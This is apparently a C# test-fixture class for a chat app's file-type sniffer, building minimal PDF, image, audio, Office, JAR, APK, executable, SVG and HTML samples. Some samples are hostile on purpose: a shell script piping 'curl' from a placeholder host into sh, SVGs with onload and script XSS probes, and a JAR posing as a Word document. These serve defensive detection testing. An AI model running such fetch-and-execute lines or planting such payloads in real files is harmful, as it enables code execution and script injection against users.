using System.IO.Compression;
using System.Text;

namespace GoChat.Files.Tests.Types;

/// <summary>Files made in code with the smallest headers their formats allow, for the sniffer tests.</summary>
internal static class SampleFiles
{
    public static byte[] Pdf => Ascii("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
    public static byte[] Png => TestPictures.Png(4, 3, withAlpha: false);
    public static byte[] Jpeg => TestPictures.Jpeg(4, 3);
    public static byte[] Gif => Ascii("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;");
    public static byte[] WebP => Riff("WEBP", "VP8L"u8.ToArray(), [0x05, 0, 0, 0, 0x2F, 0, 0, 0, 0]);
    public static byte[] Wav => Riff("WAVE", "fmt "u8.ToArray(), [16, 0, 0, 0, 1, 0, 1, 0, 0x40, 0x1F, 0, 0, 0x80, 0x3E, 0, 0, 2, 0, 16, 0]);
    public static byte[] Bmp =>
        [(byte)'B', (byte)'M', 58, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0, .. new byte[28]];

    public static byte[] Mp3WithId3 => [(byte)'I', (byte)'D', (byte)'3', 4, 0, 0, 0, 0, 0, 0, 0xFF, 0xFB, 0x90, 0x64, .. new byte[413]];
    public static byte[] Mp3Frames => [0xFF, 0xFB, 0x90, 0x64, .. new byte[413], 0xFF, 0xFB, 0x90, 0x64, .. new byte[413]];

    /// <summary>The first Ogg page of an Opus stream: the page header, one segment, and the OpusHead packet.</summary>
    public static byte[] OggOpus =>
        [.. "OggS"u8, 0, 2, .. new byte[20], 1, 19, .. "OpusHead"u8, 1, 1, 0x38, 1, 0x80, 0xBB, 0, 0, 0, 0, 0];

    /// <summary>An EBML header with DocType "webm" (as MediaRecorder writes it), then the start of a Segment.</summary>
    public static byte[] Webm => Ebml("webm");
    public static byte[] Matroska => Ebml("matroska");

    public static byte[] IsoMedia(string major, params string[] compatible)
    {
        var box = new List<byte>();
        box.AddRange(BigEndian(16 + 4 * compatible.Length));
        box.AddRange("ftyp"u8.ToArray());
        box.AddRange(Ascii(major));
        box.AddRange(BigEndian(0x200));
        foreach (var brand in compatible) box.AddRange(Ascii(brand));
        box.AddRange([0, 0, 0, 8, .. "free"u8]);
        box.AddRange([0, 0, 0, 16, .. "mdat"u8, .. new byte[8]]);
        return [.. box];
    }

    public static byte[] Docx => Zip(
        ("[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
        ("_rels/.rels", "<Relationships/>"),
        ("word/document.xml", "<w:document/>"));

    public static byte[] Xlsx => Zip(
        ("[Content_Types].xml", "<Types/>"), ("_rels/.rels", "<Relationships/>"), ("xl/workbook.xml", "<workbook/>"), ("xl/worksheets/sheet1.xml", "<worksheet/>"));

    public static byte[] Pptx => Zip(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p:presentation/>"));

    public static byte[] Docm => Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"), ("word/vbaProject.bin", "VBA"));

    public static byte[] Odt => OpenDocument("application/vnd.oasis.opendocument.text");

    public static byte[] Jar => Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: my.Main\r\n"), ("my/Main.class", "\u00ca\u00fe\u00ba\u00be"));

    /// <summary>A jar that also carries the parts of a Word document, to pass for one.</summary>
    public static byte[] JarDressedAsDocx => Zip(
        ("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"), ("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n"), ("my/Main.class", "x"));

    public static byte[] Apk => Zip(("AndroidManifest.xml", "x"), ("classes.dex", "dex\n035"), ("res/layout/main.xml", "x"));

    public static byte[] AppPackage => Zip(("[Content_Types].xml", "<Types/>"), ("AppxManifest.xml", "<Package/>"), ("app.exe", "MZ"));

    public static byte[] PlainZip => Zip(("minit/minit-mesyuarat.txt", "Minit mesyuarat"), ("minit/lampiran.csv", "a,b\n1,2\n"));

    public static byte[] WindowsProgram
    {
        get
        {
            var pe = new byte[512];
            "MZ"u8.CopyTo(pe);
            pe[0x3C] = 0x80;
            "PE\0\0"u8.CopyTo(pe.AsSpan(0x80));
            return pe;
        }
    }

    public static byte[] LinuxProgram => [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[8], 2, 0, 0x3E, 0, 1, 0, 0, 0, .. new byte[40]];

    public static byte[] ShellScript => Utf8("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n");

    public static byte[] Html => Utf8("\n  <!DOCTYPE html>\n<html><body><script>fetch('/api/me')</script></body></html>\n");

    public static byte[] Svg => Utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><circle r=\"4\"/></svg>");

    public static byte[] SvgWithProlog => Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");

    public static byte[] Xml => Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Invois><Nombor>INV-2026-001</Nombor><Jumlah>120.50</Jumlah></Invois>\n");

    public static byte[] MalayText => Utf8("Minit Mesyuarat Jawatankuasa\nTarikh: 3 Disember 2026\nHadir: Encik Zulkiflī, Puan Siti Nur Ḥasanah, Cik Amélie\n\tPerkara 1: Kafé di aras 3 dibuka semula.\r\n");

    public static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    public static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(Encoding.UTF8.GetBytes(content));
            }
        }
        return buffer.ToArray();
    }

    /// <summary>An OpenDocument file: "mimetype" first and stored, as the specification requires.</summary>
    public static byte[] OpenDocument(string mimetype, params (string Name, string Content)[] more)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var stream = zip.CreateEntry("mimetype", CompressionLevel.NoCompression).Open()) stream.Write(Encoding.ASCII.GetBytes(mimetype));
            foreach (var (name, content) in (IEnumerable<(string, string)>)[("content.xml", "<office:document-content/>"), ("META-INF/manifest.xml", "<manifest/>"), .. more])
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(Encoding.UTF8.GetBytes(content));
            }
        }
        return buffer.ToArray();
    }

    private static byte[] Ebml(string docType)
    {
        byte[] body = [0x42, 0x86, 0x81, 1, 0x42, 0xF7, 0x81, 1, 0x42, 0xF2, 0x81, 4, 0x42, 0xF3, 0x81, 8,
            0x42, 0x82, (byte)(0x80 | docType.Length), .. Encoding.ASCII.GetBytes(docType), 0x42, 0x87, 0x81, 4, 0x42, 0x85, 0x81, 2];
        return [0x1A, 0x45, 0xDF, 0xA3, (byte)(0x80 | body.Length), .. body, 0x18, 0x53, 0x80, 0x67, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF];
    }

    private static byte[] Riff(string form, byte[] chunk, byte[] data)
    {
        var size = 4 + 8 + data.Length;
        return [.. "RIFF"u8, (byte)size, (byte)(size >> 8), 0, 0, .. Ascii(form), .. chunk, (byte)data.Length, 0, 0, 0, .. data];
    }

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    private static byte[] BigEndian(int value) => [(byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value];
}
